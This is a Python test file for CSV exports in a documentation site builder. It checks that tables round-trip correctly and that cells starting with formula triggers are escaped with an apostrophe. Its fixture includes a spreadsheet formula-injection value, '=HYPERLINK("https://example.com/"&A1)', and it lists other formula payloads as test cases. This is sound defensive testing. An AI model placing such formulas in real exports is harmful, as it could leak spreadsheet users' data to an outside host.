"""CSV that spreadsheets and warehouses read back as it was, and that runs nothing."""

import csv
import io
import tracemalloc
from dataclasses import fields

import pytest
from hypothesis import given
from hypothesis import strategies as st

from site_builder.catalog import KIND, KINDS, Entity
from site_builder.site.exports.csv_tables import entity_table, harmless, matrix_table, provenance_table
from site_builder.site.facts import plain_text
from site_builder.site.matrix_cells import matrix_cells
from tests.site.making import material

CONFIG = """
    -- unit_primitives/duo_chat --
    description: "Opens a \\"chat\\", in which\\nusers ask."
    status: beta
    milestone: '16.6'
    group: group::ai framework
    cut_off_date: 2024-10-17T02:00:00+02:00
    min_gitlab_version: '16.10'
    alias_names: [old_chat, older_chat]
    add_ons: [duo_pro, duo_core]
    license_types: [premium]
    gitlab_realms: [self-managed]
    -- unit_primitives/explain_code --
    description: '=HYPERLINK("https://example.com/"&A1)'
    deprecation_message: Ask duo_chat.
    -- add_ons/duo_core --
    -- add_ons/duo_pro --
    -- license_types/premium --
    -- gitlab_realms/self-managed --
    -- backend_services/ai_gateway --
    """


def rows_of(table: bytes) -> list[list[str]]:
    """The table as a spreadsheet reads it."""
    return list(csv.reader(io.StringIO(table.decode("utf-8"), newline="")))


def test_the_table_of_unit_primitives_whole() -> None:
    assert entity_table(KIND["unit_primitive"], material(CONFIG).catalog.of_kind("unit_primitive")).decode() == (
        "name,description,visibility,status,milestone,group,feature_category,documentation_url,introduced_by_url,"
        "unit_primitive_issue_url,cut_off_date,min_gitlab_version_for_free_access,min_gitlab_version,"
        "min_backend_version,alias_names,deprecated_by_url,deprecation_message,backend_services,add_ons,license_types,"
        "gitlab_realms,services\r\n"
        'duo_chat,"Opens a ""chat"", in which\nusers ask.",,beta,16.6,group::ai framework,duo_chat,'
        "https://docs.gitlab.com/,,,2024-10-17T00:00:00Z,,16.10,,old_chat; older_chat,,,,duo_pro; duo_core,premium,"
        "self-managed,\r\n"
        'explain_code,"\'=HYPERLINK(""https://example.com/""&A1)",,,,group::duo_chat,duo_chat,'
        "https://docs.gitlab.com/,,,,,,,,,Ask duo_chat.,,,,,\r\n"
    )


@pytest.mark.parametrize("kind", [kind.singular for kind in KINDS])
def test_every_table_has_a_line_per_entity_and_a_column_per_field_and_reads_back_as_it_was(kind: str) -> None:
    made = material(CONFIG)
    gone = {"source"} if KIND[kind].has_files else {"source", "visibility"}
    columns = [field.name for field in fields(KIND[kind].entity) if field.name not in gone]

    header, *rows = rows_of(entity_table(KIND[kind], made.catalog.of_kind(kind)))

    assert header == columns
    assert rows == [[harmless(as_text(entity, column)) for column in columns] for entity in made.catalog.of_kind(kind)]


def as_text(entity: Entity, column: str) -> str:
    """A field as one cell holds it."""
    value = getattr(entity, column)
    return "; ".join(value) if isinstance(value, tuple) else "" if value is None else plain_text(value)


def test_the_table_of_a_kind_without_entities_is_its_header() -> None:
    assert entity_table(KIND["service"], material(CONFIG).catalog.of_kind("service")) == (
        b"name,description,visibility,basic_unit_primitive,gitlab_realm,unit_primitives\r\n"
    )


def test_the_matrix_names_its_columns_by_kind_and_has_a_word_in_every_cell() -> None:
    made = material(CONFIG)

    header, *rows = rows_of(matrix_table(made))

    assert header == [
        *("unit_primitive", "feature_category", "deprecated"),
        *("license_type:premium", "add_on:duo_core", "add_on:duo_pro", "gitlab_realm:self-managed"),
    ]
    assert rows == [
        ["duo_chat", "duo_chat", "no", *["Included"] * 4],
        ["explain_code", "duo_chat", "yes", "Not stated", *["Free for now"] * 2, "Not stated"],
    ]
    assert all(len(matrix_cells(primitive, made)) == len(header) - 3 for primitive in made.catalog.unit_primitives)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("duo_pro", "duo_pro"),
        ("1 = 1", "1 = 1"),
        ("", ""),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_begins_with_an_apostrophe(cell: str, written: str) -> None:
    assert harmless(cell) == written


@given(cell=st.text())
def test_no_text_runs_and_none_loses_anything(cell: str) -> None:
    assert harmless(cell).removeprefix("'") == cell.removeprefix("'")
    assert not harmless(cell).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_the_table_of_origins_keeps_its_rows_and_runs_nothing() -> None:
    table = 'file,field,value,source\nconfig/a.yml,name,=1+1,"docs, page 1"\n+x,-y,@z,é\n'.encode()

    assert provenance_table(material(CONFIG, provenance_csv=b"\xef\xbb\xbf" + table)).decode() == (
        "file,field,value,source\r\nconfig/a.yml,name,'=1+1,\"docs, page 1\"\r\n'+x,'-y,'@z,é\r\n"
    )


def test_blank_lines_are_no_rows_and_take_no_memory() -> None:
    table = b"file,field,value,source\n" + b"\n" * 500_000 + b"a,b,c,d\n"
    given = material(CONFIG, provenance_csv=table)

    tracemalloc.start()
    try:
        made = provenance_table(given)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert made == b"file,field,value,source\r\na,b,c,d\r\n"
    assert peak < 10 * len(table)  # the text as Python has it, twice; a list for each line would be 60 times as large


@pytest.mark.parametrize("data", [b"\x00\xff\xfe", b'"', b"a" * 200_000, b'a,b\n"' + b"c" * 200_000, b"\n\n"])
def test_what_is_no_table_of_origins_stops_nothing(data: bytes) -> None:
    rows_of(provenance_table(material(CONFIG, provenance_csv=data)))
